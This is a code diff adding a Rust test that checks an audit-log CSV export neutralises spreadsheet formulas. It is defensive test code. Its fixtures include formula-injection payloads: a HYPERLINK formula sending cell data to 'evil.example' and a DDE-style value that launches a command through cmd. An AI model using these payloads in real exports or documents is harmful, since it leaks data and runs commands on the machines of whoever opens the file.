@@ -179,9 +179,58 @@ async fn filters_pagination_and_csv(db: &TestDb) {
     assert_eq!(bad.fields()[0].field, "to");
 }
 
+/// Values from outside (here an actor's name and user agent) are written into the CSV as text
+/// a spreadsheet will not evaluate: OWASP's leading single quote.
+async fn the_csv_export_neutralises_formulas(db: &TestDb) {
+    let (p, _) = portal(db).await;
+    let name = r#"=HYPERLINK("https://evil.example/?leak="&A1,"Open")"#;
+    let a = domain::Actor {
+        name: name.into(),
+        ua: Some("-2+3+cmd|' /C calc'!A0".into()),
+        ..admin()
+    };
+    let key = p
+        .create_key(
+            &a,
+            NewKey {
+                name: "@SUM(1,2)".into(),
+                expires_in: None,
+            },
+            None,
+        )
+        .await
+        .unwrap();
+    let mut out = Vec::new();
+    let n = p
+        .export_audit_csv(
+            &admin(),
+            AuditFilter {
+                entity_type: Some("federation_key".into()),
+                entity_id: Some(key.key.id.to_string()),
+                ..Default::default()
+            },
+            &mut out,
+        )
+        .await
+        .unwrap();
+    assert_eq!(n, 1);
+    let mut csv = csv::Reader::from_reader(out.as_slice());
+    let headers = csv.headers().unwrap().clone();
+    let row = csv.records().next().unwrap().unwrap();
+    let cell = |n: &str| row[headers.iter().position(|h| h == n).unwrap()].to_string();
+    assert_eq!(cell("actor_name"), format!("'{name}"));
+    for cell in &row {
+        assert!(
+            !cell.starts_with(domain::spreadsheet::FORMULA_TRIGGERS),
+            "a cell a spreadsheet would evaluate: {cell:?}"
+        );
+    }
+}
+
 on_every_portal!(
     the_trail_is_append_only,
     a_hand_edit_is_reported_as_the_first_broken_link,
     deleting_the_last_events_is_detected,
-    filters_pagination_and_csv
+    filters_pagination_and_csv,
+    the_csv_export_neutralises_formulas
 );
